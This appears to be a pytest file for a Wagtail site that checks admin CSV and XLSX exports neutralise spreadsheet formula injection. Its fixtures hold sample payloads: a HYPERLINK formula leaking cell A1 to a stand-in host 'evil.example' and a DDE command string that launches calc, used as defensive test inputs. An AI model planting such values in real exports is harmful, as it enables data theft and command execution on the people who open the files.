"""Every spreadsheet the admin serves (Wagtail's reports, any listing's list_export) is defused:
no cell that a spreadsheet would run as a formula, in CSV as in XLSX."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Site

from hubsite.exports import FORMULA_TRIGGERS, defuse
from tests.factories import HubFactory, UserFactory, add_news, coordinator_of

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 5 45", "'+33 5 45"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Atelier = rencontre", "Atelier = rencontre"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_defuse_quotes_text_a_spreadsheet_would_run(value, expected):
    assert defuse(value) == expected


@pytest.fixture
def hostile(home):
    """A published page with a formula for a title, published by a user named like formulas."""
    hub = HubFactory(name="Hub Export", slug="hub-export")
    publisher = coordinator_of(hub, username="publieur", first_name="+cmd", last_name="-x")
    news = add_news(hub, title=HOSTILE_TITLE)
    news.save_revision(user=publisher).publish(user=publisher)
    site = Site.objects.get(is_default_site=True)
    site.site_name = "@site"
    site.save()
    Redirect.objects.create(old_path="/ancien", redirect_link="=cmd|' /C calc'!A0", site=site)
    return news


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    data = b"".join(response.streaming_content).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(data)) for cell in row]


def xlsx_cells(response) -> list:
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


EXPORTS = {
    "site-history": ("wagtailadmin_reports:site_history", HOSTILE_TITLE),
    "aging-pages": ("wagtailadmin_reports:aging_pages", HOSTILE_TITLE),
    "redirects-listing": ("wagtailredirects:index", "=cmd|' /C calc'!A0"),
}


@pytest.mark.parametrize("export", EXPORTS)
def test_csv_exports_quote_every_cell_that_would_run_as_a_formula(client, hostile, export):
    url_name, hostile_value = EXPORTS[export]
    client.force_login(UserFactory(username="admin-export", is_superuser=True))

    cells = csv_cells(client.get(reverse(url_name) + "?export=csv"))

    assert "'" + hostile_value in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


@pytest.mark.parametrize("export", EXPORTS)
def test_xlsx_exports_hold_no_formula(client, hostile, export):
    url_name, hostile_value = EXPORTS[export]
    client.force_login(UserFactory(username="admin-export", is_superuser=True))

    cells = xlsx_cells(client.get(reverse(url_name) + "?export=xlsx"))

    assert "'" + hostile_value in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)]


def test_publisher_names_are_defused_too(client, hostile):
    client.force_login(UserFactory(username="admin-export", is_superuser=True))

    cells = csv_cells(client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv"))

    assert "'+cmd -x" in cells
